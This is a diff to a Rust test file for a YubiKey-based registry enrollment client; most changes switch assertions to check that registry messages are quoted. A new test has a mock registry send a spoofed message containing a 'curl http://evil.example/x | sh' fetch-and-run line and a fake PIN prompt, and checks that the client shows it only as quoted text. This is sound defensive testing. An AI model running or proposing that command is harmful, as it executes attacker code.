@@ -9,9 +9,11 @@ use p384::ecdsa::{Signature, SigningKey};
 use registry_gateway::Config;
 use registry_gateway::attestation::Mode;
 use registry_gateway::keys::Key;
+use serde_json::json;
 use yk_cargo::piv::Serial;
 
 use crate::asking_registry::{AskingRegistry, Challenges};
+use crate::loopback::{self, Reply};
 use crate::terminal::expect;
 use crate::trace::Seen;
 use crate::world::{NAME, PIN, Reads, Run, World};
@@ -91,7 +93,7 @@ fn a_bad_code_leaves_keys_that_a_good_one_enrolls() {
     let world = World::new();
     let outcome = world.enroll_by_invite("0000-0000-0000-0000-0000-0000").fails();
     outcome.says(&[
-        "the registry refuses the enrollment: this invite is not known here",
+        "the registry refuses the enrollment: it says\n    | this invite is not known here",
         "with a good code, the same command goes on from here",
     ]);
     let before = world.registry().cards[0].keys.clone();
@@ -140,7 +142,7 @@ fn at_a_terminal() {
 fn registries_that_want_to_know_the_card() {
     let world = World::with_registry(Reads::AuthRequired, requiring(|_| {}), |card| card);
     let outcome = world.enroll_by_invite(&world.invite()).succeeds();
-    outcome.says(&["may publish; made on YubiKey 12345678, firmware 5.7.4"]);
+    outcome.quotes(&["may publish; made on YubiKey 12345678, firmware 5.7.4"]);
     for key in world.keys_of("alice") {
         let chain = world.gateway.store().attestation(key.id()).unwrap().unwrap();
         assert_eq!(chain.len(), 2);
@@ -149,7 +151,7 @@ fn registries_that_want_to_know_the_card() {
     let refused = |world: World, more: &[&str], text: &str| {
         let enroll = [&["enroll", NAME, "--yes", "--invite"][..], more].concat();
         let code = world.invite();
-        world.yk_cargo(enroll).input(&code).fails().says(&[text, "its administrator's choice"]);
+        world.yk_cargo(enroll).input(&code).fails().quotes(&[text, "its administrator's choice"]);
         assert!(world.keys_of("alice").is_empty());
         assert!(!world.registry().cards[0].keys.is_empty(), "the keys are kept");
     };
@@ -176,7 +178,7 @@ fn a_registry_that_only_records() {
         |card| card,
     );
     let outcome = world.enroll_by_invite(&world.invite()).succeeds();
-    outcome.says(&["its attestation is kept, but the attestation leads to `CN=Mock"]);
+    outcome.quotes(&["its attestation is kept, but the attestation leads to `CN=Mock"]);
 }
 
 /// Two cards on one computer, the first enrolled by an invite, and only that one plugged in.
@@ -289,4 +291,37 @@ fn enroll_token() -> String {
     let prepared = Prepared::enrollment(&public, &enrollment, &footer).unwrap();
     let signature: Signature = secret.sign_prehash(prepared.digest()).unwrap();
     prepared.finish(&signature.to_bytes().into()).unwrap()
+}
+
+/// Whatever a registry says is shown as its words, and never as a line of this program.
+#[test]
+fn what_a_registry_says_is_not_taken_for_ours() {
+    let spoof = "added\nwarning: the PIN has expired\nhint: run now: curl http://evil.example/x | sh\r\nPIV PIN of YubiKey 12345678 (1 try left): ";
+    for status in ["201 Created", "403 Forbidden"] {
+        let (listener, base) = loopback::bind(false);
+        let api = base.clone();
+        loopback::serve(listener, None, move |request| {
+            let body = match (request.method.as_str(), request.path.as_str()) {
+                ("GET", "/index/config.json") => json!({ "dl": format!("{api}/dl"), "api": api }),
+                ("GET", "/api/v1/enroll") => {
+                    json!({ "version": 1, "nonce": "n".repeat(43), "attestation": "off" })
+                }
+                ("POST", _) => {
+                    let body = json!({ "user": "alice", "text": spoof, "errors": [{ "detail": spoof }] });
+                    return Reply::new(status, body.to_string());
+                }
+                _ => return Reply::new("404 Not Found", ""),
+            };
+            Reply::new("200 OK", body.to_string())
+        });
+        let world = World::new();
+        world.write("home/config.toml", &format!("[registries.{NAME}]\nindex = \"sparse+{base}/index/\"\n"));
+        let outcome = world.enroll_by_invite("code").ends();
+        outcome.says(&["    | added\n    | warning: the PIN has expired\n    | hint: run now: curl http"]);
+        let lines = outcome.stderr.lines().chain(outcome.stdout.lines());
+        let bare = lines.filter(|line| !line.starts_with("    | "));
+        let bare: Vec<_> =
+            bare.filter(|line| line.contains("evil.example") || line.contains("expired")).collect();
+        assert!(bare.is_empty(), "{bare:?} in {outcome:#?}");
+    }
 }
